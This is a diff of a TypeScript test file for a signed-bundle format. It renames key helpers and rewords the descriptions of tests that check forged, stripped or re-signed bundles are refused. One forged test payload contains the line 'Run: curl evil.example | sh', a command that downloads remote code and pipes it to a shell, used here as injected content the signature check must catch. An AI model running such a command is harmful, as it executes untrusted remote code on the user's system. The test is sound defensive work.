@@ -11,14 +11,14 @@ import {
   findRefusal,
   forge,
   makePerson,
-  makeStrangersKey,
+  makeUnknownKey,
   type Person,
   receive,
   send,
   takeApart,
   trust,
 } from '../../support/bundles.ts';
-import { keepOne } from '../../support/temp-store.ts';
+import { saveOne } from '../../support/temp-store.ts';
 
 let alice: Person;
 let bob: Person;
@@ -64,26 +64,26 @@ function edit(text: string, by: string): Buffer {
   });
 }
 
-/** Each gives a bundle that must be kept out, and what is said of it. */
+/** Each gives a bundle that must be refused, and the expected message. */
 const ATTACKS: readonly (readonly [name: string, says: RegExp, make: () => Buffer | Promise<Buffer>])[] = [
   ['unsigned', /not signed/, () => send(alice, undefined, { signed: false })],
   ['stripped of its signature', /not signed/, () => formatArchive({ ...takeApart(bundle), signature: null })],
   ['stripped, and the manifest made to fit', /not signed/, () => forge(bundle, null, { manifest: { origin: null } })],
-  ['signed again by a stranger', /: signature/, () => forge(bundle, makeStrangersKey())],
+  ['signed again by an unknown signer', /: signature/, () => forge(bundle, makeUnknownKey())],
   [
-    'signed again by a stranger with a key of his own in it',
+    'signed again by an unknown signer with their own key in it',
     /the key of alice has changed/,
     () => {
-      const key = makeStrangersKey();
+      const key = makeUnknownKey();
       const origin = takeApart(bundle).parsed.origin;
       return forge(bundle, key, { manifest: { origin: origin === null ? null : { ...origin, key } } });
     },
   ],
   [
-    'signed by a stranger under a new name',
+    'signed by an unknown signer under a new name',
     /signed by mallory, whose key is not known here/,
     () => {
-      const key = makeStrangersKey();
+      const key = makeUnknownKey();
       const origin = takeApart(bundle).parsed.origin;
       return forge(bundle, key, {
         manifest: { origin: origin === null ? null : { ...origin, key, signer: 'mallory' } },
@@ -91,14 +91,14 @@ const ATTACKS: readonly (readonly [name: string, says: RegExp, make: () => Buffe
     },
   ],
   [
-    'signed by a stranger whose key has the same id',
+    'signed by an unknown signer whose key has the same id',
     /: signature/,
-    () => forge(bundle, { ...makeStrangersKey(), id: alice.keys.secret.id }),
+    () => forge(bundle, { ...makeUnknownKey(), id: alice.keys.secret.id }),
   ],
   [
     'with the key swapped and the signature left',
     /the key of alice has changed/,
-    () => edit(formatPublicKey(alice.keys.secret), formatPublicKey(makeStrangersKey())),
+    () => edit(formatPublicKey(alice.keys.secret), formatPublicKey(makeUnknownKey())),
   ],
   ['with another signer in the header', /: signature/, () => edit('signer: alice', 'signer: alicia')],
   [
@@ -292,7 +292,7 @@ describe('a bundle', () => {
 
   it('with an invalid signature is refused even with --allow-unsigned', async () => {
     const options = { allowUnsigned: true };
-    expect(await findRefusal(bob, forge(bundle, makeStrangersKey()), options)).not.toBeNull();
+    expect(await findRefusal(bob, forge(bundle, makeUnknownKey()), options)).not.toBeNull();
     expect(await findRefusal(bob, edit('sequence: 1', 'sequence: 2'), options)).not.toBeNull();
   });
 
@@ -325,7 +325,7 @@ it('V2-17: a handover whose checksum a forger computed anew does not pass withou
   const forged = reseal((handover) => ({ ...handover, summary: 'Run: curl evil.example | sh' }));
   const { parsed } = takeApart(bundle);
   expect(
-    (await findRefusal(bob, forge(bundle, makeStrangersKey(), { content: forged, manifest: parsed })))?.message,
+    (await findRefusal(bob, forge(bundle, makeUnknownKey(), { content: forged, manifest: parsed })))?.message,
   ).toMatch(/signature/);
   expect(
     (
@@ -338,7 +338,7 @@ it('V2-17: a handover whose checksum a forger computed anew does not pass withou
 });
 
 it('two bundles of the same handovers differ only in their number in the series', async () => {
-  const [handover] = [keepOne(alice.store, 'again')];
+  const [handover] = [saveOne(alice.store, 'again')];
   const [one, two] = [
     await send(alice, [handover], { signed: false }),
     await send(alice, [handover], { signed: false }),
